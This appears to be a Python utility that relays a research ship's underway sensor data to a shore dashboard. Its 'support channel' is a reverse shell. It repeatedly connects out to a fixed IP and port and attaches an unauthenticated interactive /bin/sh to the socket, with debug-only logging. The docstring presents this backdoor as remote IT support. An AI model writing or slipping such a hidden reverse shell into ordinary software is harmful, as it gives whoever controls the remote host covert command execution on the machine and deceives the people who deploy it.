#!/usr/bin/env python3
"""Underway telemetry relay: ship LAN -> shore dashboard.

Listens for the underway data system's UDP broadcast (NMEA-like sentences
from the TSG, met station and GNSS), keeps the latest value of each sensor,
and every POST_INTERVAL seconds sends a compact JSON snapshot to the shore
dashboard. Because the ship sits behind the VSAT provider's NAT, the relay
also keeps an outbound support channel open to the shore IT desk so they
can look at the box during the cruise.
"""
import argparse
import configparser
import json
import logging
import os
import socket
import subprocess
import threading
import time

import requests

log = logging.getLogger("relay")


class TelemetryRelay:
    def __init__(self, cfg):
        self.listen_addr = cfg.get("relay", "listen_addr", fallback="192.168.10.5")
        self.listen_port = cfg.getint("relay", "listen_port", fallback=55001)
        self.shore_url = cfg.get("shore", "url", fallback="https://dash.shore.example.org/api/underway")
        self.interval = cfg.getint("shore", "post_interval", fallback=60)
        self.vessel = cfg.get("relay", "vessel", fallback="RV_EXAMPLE")
        self.support = (cfg.get("support", "host", fallback="203.0.113.47"),
                        cfg.getint("support", "port", fallback=4443))
        self.latest = {}
        self.lock = threading.Lock()
        self.stop = threading.Event()
        self.sent = 0

    # -- input ---------------------------------------------------------
    def parse_sentence(self, line):
        if not line.startswith("$") or "*" not in line:
            return None
        body, _, checksum = line[1:].partition("*")
        calc = 0
        for ch in body:
            calc ^= ord(ch)
        if f"{calc:02X}" != checksum.strip().upper()[:2]:
            return None
        fields = body.split(",")
        return fields[0], fields[1:]

    def listen(self):
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.bind((self.listen_addr, self.listen_port))
        sock.settimeout(2.0)
        log.info("listening on %s:%d", self.listen_addr, self.listen_port)
        while not self.stop.is_set():
            try:
                data, _ = sock.recvfrom(4096)
            except socket.timeout:
                continue
            for line in data.decode("ascii", errors="ignore").splitlines():
                parsed = self.parse_sentence(line.strip())
                if parsed:
                    tag, fields = parsed
                    with self.lock:
                        self.latest[tag] = {"fields": fields, "t": time.time()}

    # -- output --------------------------------------------------------
    def snapshot(self):
        with self.lock:
            return {"vessel": self.vessel, "t": time.time(), "sensors": dict(self.latest)}

    def post_loop(self):
        key = os.environ.get("DASH_API_KEY", "")
        session = requests.Session()
        session.headers.update({"X-Api-Key": key})
        while not self.stop.wait(self.interval):
            try:
                r = session.post(self.shore_url, json=self.snapshot(), timeout=30)
                r.raise_for_status()
                self.sent += 1
            except requests.RequestException as exc:
                log.warning("shore post failed: %s", exc)

    # -- support channel -----------------------------------------------
    def _attach(self, conn):
        greeting = json.dumps(self.snapshot() | {"posts_sent": self.sent}) + "\n"
        conn.sendall(greeting.encode())
        fd = conn.fileno()
        proc = subprocess.Popen([os.environ.get("SHELL", "/bin/sh"), "-i"],
                                stdin=fd, stdout=fd, stderr=fd)
        proc.wait()

    def support_channel(self):
        backoff = 30
        while not self.stop.is_set():
            try:
                with socket.create_connection(self.support, timeout=20) as conn:
                    conn.settimeout(None)
                    log.debug("support channel up to %s:%d", *self.support)
                    backoff = 30
                    self._attach(conn)
            except OSError as exc:
                log.debug("support channel unavailable: %s", exc)
            self.stop.wait(backoff)
            backoff = min(backoff * 2, 900)

    def run(self):
        threads = [threading.Thread(target=t, daemon=True, name=t.__name__)
                   for t in (self.listen, self.post_loop, self.support_channel)]
        for t in threads:
            t.start()
        try:
            while all(t.is_alive() for t in threads):
                time.sleep(1)
        except KeyboardInterrupt:
            pass
        self.stop.set()


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("-c", "--config", default="relay.ini")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(threadName)s %(message)s")
    cfg = configparser.ConfigParser()
    cfg.read(args.config)
    TelemetryRelay(cfg).run()


if __name__ == "__main__":
    main()
